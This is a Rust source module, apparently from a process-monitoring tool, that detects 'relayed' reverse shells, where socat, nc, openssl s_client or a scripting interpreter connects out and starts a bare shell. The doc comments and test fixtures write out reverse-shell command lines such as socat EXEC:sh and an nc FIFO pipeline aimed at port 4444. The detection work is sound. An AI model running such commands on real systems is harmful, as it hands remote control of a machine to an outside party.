//! `relayed_shell`: a shell talks through another process's connection, by pipe or pseudo-terminal.
//!
//! `socat TCP:… EXEC:sh`, `sh -i <f | nc … >f`, `openssl s_client` between FIFOs, Python's `pty.spawn`:
//! the shell itself has no socket. Told are
//!
//! - `parent`: a relay (socat, nc, openssl s_client and the like) with a connection to elsewhere starts a shell;
//! - `pipeline`: a shell without work of its own stands beside such a relay, both started by one shell;
//! - `interpreter`: Python, Perl, Ruby, PHP or Lua connects to elsewhere, speaks nothing that is known, and
//!   starts a shell without work of its own within [`SOON`].
//!
//! Agents are interpreters that start shells all day: whoever was ever heard to speak TLS, HTTP, SSH or DNS
//! as a client is none of the third kind, and what is not settled is looked at again after [`SETTLE`].

use std::collections::VecDeque;
use std::net::SocketAddr;

use serde_json::Value;

use super::kept::Kept;
use super::{Around, Moment, Observation, program};
use crate::event::{Event, EventKind, Exec, Flow, Nanos, ProcessId, Protocol, is_loopback};
use crate::network::{Application, Recognised};

/// How long after (or before) a connect a shell may start.
const SOON: u64 = 10_000_000_000;

/// How long flow and shell must last before a pipeline or an interpreter is told of.
const SETTLE: u64 = 2_000_000_000;

/// Most processes of each kind, and most pairs that are waited for.
const MAX_RELAYS: usize = 8_192;
const MAX_WEB: usize = 32_768;
const MAX_WAITING: usize = 1_024;

/// Most siblings that are looked at.
const SIBLINGS: usize = 64;

/// Processes with a connection that a shell may be behind.
#[derive(Debug)]
pub(super) struct Relay {
    relays: Kept<ProcessId, Connected>,
    /// Processes that spoke something known over a flow of their own.
    web: Kept<ProcessId, ()>,
    /// Relay and shell, and since when they are known to stand together.
    waiting: VecDeque<(Nanos, ProcessId, ProcessId, &'static str)>,
    dropped: u64,
}

#[derive(Clone, Copy, Debug)]
struct Connected {
    cookie: u64,
    remote: SocketAddr,
    since: Nanos,
    interpreter: bool,
    told: bool,
}

impl Default for Relay {
    fn default() -> Self {
        Self { relays: Kept::new(MAX_RELAYS), web: Kept::new(MAX_WEB), waiting: VecDeque::new(), dropped: 0 }
    }
}

impl Relay {
    pub(super) fn event(&mut self, around: Around<'_>, event: &Event, out: &mut Vec<Observation>) {
        match &event.kind {
            EventKind::Connect(flow) => self.connect(around, event, flow),
            EventKind::ConnectResult(result) if result.errno != 0 => {
                self.ended(event.process, result.flow.cookie);
            }
            EventKind::FlowStats(stats) if stats.closed => self.ended(event.process, stats.flow.cookie),
            EventKind::Exec(exec) => {
                self.relays.remove(&event.process);
                self.web.remove(&event.process);
                out.extend(self.shell(around, event, exec));
            }
            EventKind::Exit(_) => {
                self.relays.remove(&event.process);
                self.web.remove(&event.process);
            }
            EventKind::ConnectResult(_)
            | EventKind::FlowStats(_)
            | EventKind::Payload(_)
            | EventKind::Fork(_)
            | EventKind::Send(_)
            | EventKind::Bind(_)
            | EventKind::Listen(_)
            | EventKind::File(_)
            | EventKind::Operation(_)
            | EventKind::Setsid
            | EventKind::CgroupMove(_)
            | EventKind::CgroupCreate(_)
            | EventKind::CgroupRemove(_)
            | EventKind::Lost(_) => {}
        }
    }

    pub(super) fn recognised(&mut self, around: Around<'_>, recognised: &Recognised) {
        let Recognised { flow, application, process, .. } = recognised;
        if process.pid == 0 || !flow.initiated || flow.protocol != Protocol::Tcp {
            return;
        }
        match application {
            Application::Tls | Application::Http | Application::Ssh | Application::Dns => {}
            Application::Stratum
            | Application::Socks
            | Application::Noise
            | Application::Tunnel
            | Application::Canary
            | Application::Shell => return,
        }
        let relay = self.relays.get(process).is_some_and(|known| !known.interpreter);
        // A relay wraps its shell into TLS; what it fetches, or carries for an ssh client, is no shell.
        if relay && *application == Application::Tls {
            return;
        }
        self.relays.remove(process);
        let exec = around.table.get(*process).and_then(|process| process.exec.as_deref());
        if exec.is_some_and(program::is_interpreter) {
            self.web.insert(*process, ());
        }
    }

    pub(super) fn tick(&mut self, around: Around<'_>, out: &mut Vec<Observation>) {
        while let Some((since, relay, shell, evidence)) = self.waiting.front().copied() {
            if around.now.since(since) < SETTLE {
                return;
            }
            self.waiting.pop_front();
            let lives = |id| around.table.get(id).is_some_and(|process| process.ended.is_none());
            if lives(relay) && lives(shell) {
                out.extend(self.tell(around, Moment::now(around), relay, shell, evidence));
            }
        }
    }

    pub(super) fn dropped(&self) -> u64 {
        self.relays.dropped() + self.web.dropped() + self.dropped
    }

    fn connect(&mut self, around: Around<'_>, event: &Event, flow: &Flow) {
        let id = event.process;
        let elsewhere = !is_loopback(flow.remote.ip()) && flow.remote.port() != 53;
        if flow.protocol != Protocol::Tcp || !flow.initiated || !elsewhere || self.web.get(&id).is_some() {
            return;
        }
        let Some(process) = around.table.get(id) else { return };
        let Some(exec) = process.exec.as_deref() else { return };
        let interpreter = program::is_interpreter(exec);
        let relay = program::relay(exec).is_some();
        if !interpreter && !relay {
            return;
        }
        let (cookie, remote, since) = (flow.cookie, flow.remote, event.time);
        self.relays.insert(id, Connected { cookie, remote, since, interpreter, told: false });
        let parent = process.parent.filter(|parent| relay && runs(around, *parent, program::is_shell));
        for sibling in parent.into_iter().flat_map(|parent| around.table.children(parent).take(SIBLINGS)) {
            let near = event.time.since(sibling.since) <= SOON;
            if sibling.id != id && sibling.ended.is_none() && near && is_fresh_shell(around, sibling.id, id) {
                self.wait_for(event.time, id, sibling.id, "pipeline");
                return;
            }
        }
    }

    /// A connection is over, or never came about.
    fn ended(&mut self, process: ProcessId, cookie: u64) {
        if self.relays.get(&process).is_some_and(|known| known.cookie == cookie) {
            self.relays.remove(&process);
        }
    }

    /// A shell was started: by a relay, beside one, or by an interpreter.
    fn shell(&mut self, around: Around<'_>, event: &Event, exec: &Exec) -> Option<Observation> {
        if !program::is_shell(exec) {
            return None;
        }
        let parent = around.table.get(event.process)?.parent.unwrap_or(exec.parent);
        let bare = program::is_bare_shell(exec);
        if let Some(connected) = self.relays.get(&parent) {
            if !connected.interpreter {
                return self.tell(around, Moment::of(event), parent, event.process, "parent");
            }
            if bare && event.time.since(connected.since) <= SOON {
                self.wait_for(event.time, parent, event.process, "interpreter");
            }
            return None;
        }
        if bare && runs(around, parent, program::is_shell) {
            let siblings = around.table.children(parent).take(SIBLINGS);
            let relay = siblings.map(|sibling| sibling.id).find(|id| {
                let near = |known: &Connected| !known.interpreter && event.time.since(known.since) <= SOON;
                *id != event.process && self.relays.get(id).is_some_and(near)
            });
            if let Some(relay) = relay {
                self.wait_for(event.time, relay, event.process, "pipeline");
            }
        }
        None
    }

    fn wait_for(&mut self, since: Nanos, relay: ProcessId, shell: ProcessId, evidence: &'static str) {
        if self.waiting.len() >= MAX_WAITING {
            self.dropped = self.dropped.saturating_add(1);
            return;
        }
        self.waiting.push_back((since, relay, shell, evidence));
    }

    fn tell(
        &mut self,
        around: Around<'_>,
        moment: Moment,
        relay: ProcessId,
        shell: ProcessId,
        evidence: &'static str,
    ) -> Option<Observation> {
        let connected = self.relays.get_mut(&relay).filter(|connected| !connected.told)?;
        connected.told = true;
        let remote = connected.remote;
        let fields = vec![
            ("FlowRemote", Value::from(remote.to_string())),
            ("FlowPort", Value::from(remote.port())),
            ("FlowIsPrivate", Value::from(crate::event::is_private(remote.ip()))),
            ("ShellEvidence", Value::from(evidence)),
            ("ShellProcessId", Value::from(shell.pid)),
        ];
        let text = format!("is connected to {remote} and to the shell of pid {}", shell.pid);
        Some(moment.observation(around, relay, "relayed_shell", text, fields))
    }
}

/// Whether what a process runs is of a kind.
fn runs(around: Around<'_>, id: ProcessId, is: fn(&Exec) -> bool) -> bool {
    around.table.get(id).and_then(|process| process.exec.as_deref()).is_some_and(is)
}

/// A shell without work that was executed beside `relay`, not one that both were forked from.
fn is_fresh_shell(around: Around<'_>, id: ProcessId, relay: ProcessId) -> bool {
    let exec = |id| around.table.get(id).and_then(|process| process.exec.as_ref());
    let parent = around.table.get(relay).and_then(|process| process.parent);
    let inherited = match (exec(id), parent.and_then(exec)) {
        (Some(own), Some(parents)) => std::sync::Arc::ptr_eq(own, parents),
        (_, _) => false,
    };
    !inherited && runs(around, id, program::is_bare_shell)
}

#[cfg(test)]
mod tests {
    use super::super::world::{SECOND, World, at, field, flow, spoken};
    use super::*;
    use crate::network::Names;
    use crate::task::Ledger;

    const REMOTE: &str = "203.0.113.9:4444";

    fn world() -> World {
        let mut world = World::new();
        world.exec(1, "/usr/bin/node", "node agent.js").fork(1, 2).exec(2, "/usr/bin/bash", "bash -c x");
        world
    }

    #[test]
    fn a_relay_that_starts_a_shell_is_seen() {
        let mut world = world();
        world.fork(2, 3).exec(3, "/usr/bin/socat", "socat TCP:h:4444 EXEC:sh,pty").connect(3, 7, REMOTE, 0);
        world.fork(3, 4).exec(4, "/usr/bin/dash", "sh");
        let seen = world.taken();
        assert_eq!((seen.len(), seen[0].process.pid), (1, 3));
        assert_eq!(field(&seen[0], "ShellEvidence"), "parent");
        assert_eq!(field(&seen[0], "ShellProcessId"), 4);
        assert_eq!(field(&seen[0], "FlowRemote"), REMOTE);
    }

    #[test]
    fn a_shell_in_the_pipeline_of_a_relay_is_seen_in_either_order() {
        let mut shell_first = world();
        shell_first.fork(2, 3).fork(2, 4).exec(3, "/usr/bin/dash", "sh -i");
        shell_first.exec(4, "/usr/bin/nc.openbsd", "nc 203.0.113.9 4444").connect(4, 7, REMOTE, 0).wait(3);
        assert_eq!(shell_first.names(), ["relayed_shell 4"]);
        let mut relay_first = world();
        relay_first.fork(2, 3).fork(2, 4).exec(4, "/usr/bin/openssl", "openssl s_client -connect h:4444");
        relay_first.connect(4, 7, REMOTE, 0).speaks(4, 7, REMOTE, Application::Tls, Vec::new());
        relay_first.exec(3, "/usr/bin/bash", "bash -i").wait(3);
        assert_eq!(relay_first.names(), ["relayed_shell 4"]);
    }

    #[test]
    fn an_interpreter_that_connects_and_spawns_a_bare_shell_is_seen() {
        let mut world = world();
        world.fork(2, 3).exec(3, "/usr/bin/python3.11", "python3 -c x").connect(3, 7, REMOTE, 0);
        world.fork(3, 4).exec(4, "/usr/bin/bash", "/bin/bash").wait(3);
        assert_eq!(field(&world.taken()[0], "ShellEvidence"), "interpreter");
    }

    #[test]
    fn an_agent_that_speaks_to_its_model_and_spawns_shells_is_not_seen() {
        for application in [Application::Tls, Application::Http] {
            let mut world = World::new();
            world.fork(1, 2).exec(2, "/usr/bin/python3", "python3 agent.py").connect(2, 7, REMOTE, 0);
            // The shell starts before the first bytes are known for what they are.
            world.fork(2, 3).exec(3, "/usr/bin/bash", "bash").speaks(2, 7, REMOTE, application, Vec::new());
            world.connect(2, 8, "203.0.113.8:443", 0).fork(2, 4).exec(4, "/usr/bin/bash", "bash -i").wait(5);
            assert_eq!(world.names(), Vec::<String>::new());
        }
    }

    #[test]
    fn everyday_use_of_relays_and_interpreters_is_not_seen() {
        let mut world = world();
        // Is a port open? A persistent shell stands beside, made by something that is no shell.
        world.fork(1, 3).exec(3, "/usr/bin/bash", "bash").fork(1, 4).exec(4, "/usr/bin/nc", "nc -z h 4444");
        world.connect(4, 7, REMOTE, 0).wait(3);
        // The same in a pipeline, but over before it settles.
        world.fork(2, 5).fork(2, 6).exec(5, "/usr/bin/bash", "bash").exec(6, "/usr/bin/nc", "nc -z h 4444");
        world.connect(6, 8, REMOTE, 0).closed(6, 8, REMOTE, 0).exit(6).wait(3);
        // A connection that is refused.
        world.fork(2, 7).exec(7, "/usr/bin/nc", "nc h 4444").connect(7, 9, REMOTE, 111).wait(3);
        // Carries an ssh session.
        world.fork(2, 8).exec(8, "/usr/bin/nc", "nc h 22").connect(8, 10, "203.0.113.9:22", 0);
        world.speaks(8, 10, "203.0.113.9:22", Application::Ssh, Vec::new()).wait(3);
        // A database, then a command.
        world.fork(1, 9).exec(9, "/usr/bin/python3", "python3 t.py").connect(9, 11, "10.0.0.9:5432", 0);
        world.fork(9, 10).exec(10, "/usr/bin/dash", "sh -c ls").wait(3);
        // A bare shell long after.
        world.wait(20).fork(9, 11).exec(11, "/usr/bin/bash", "bash").wait(3);
        // A service here.
        world.fork(1, 12).exec(12, "/usr/bin/python3", "python3 x").connect(12, 12, "127.0.0.1:9000", 0);
        world.fork(12, 13).exec(13, "/usr/bin/bash", "bash").wait(3);
        assert_eq!(world.names(), Vec::<String>::new());
    }

    #[test]
    fn a_million_processes_cost_no_more_than_the_limit() {
        let mut world = World::new();
        world.exec(2, "/usr/bin/python3", "python3");
        let names = Names::default();
        let mut analysis = Relay::default();
        for pid in 3..50_003_u32 {
            world.table.apply(&at(
                world.time,
                2,
                EventKind::Fork(crate::event::Fork { child: super::super::world::id(pid) }),
            ));
        }
        let around =
            Around { table: &world.table, names: &names, tasks: &Ledger::default(), now: Nanos(SECOND) };
        for turn in 0..20 {
            for pid in 3..50_003_u32 {
                let flow = flow(u64::from(pid) + turn * 50_000, REMOTE);
                analysis.event(around, &at(SECOND, pid, EventKind::Connect(flow)), &mut Vec::new());
                if turn % 2 == 1 {
                    analysis.recognised(around, &spoken(SECOND, pid, flow, Application::Tls, Vec::new()));
                }
            }
        }
        assert!(analysis.relays.len() <= MAX_RELAYS && analysis.web.len() == MAX_WEB);
        assert!(analysis.dropped() > 0);
        for pid in 0..10_000 {
            analysis.wait_for(
                Nanos(SECOND),
                super::super::world::id(pid),
                super::super::world::id(1),
                "pipeline",
            );
        }
        assert_eq!(analysis.waiting.len(), MAX_WAITING);
    }
}
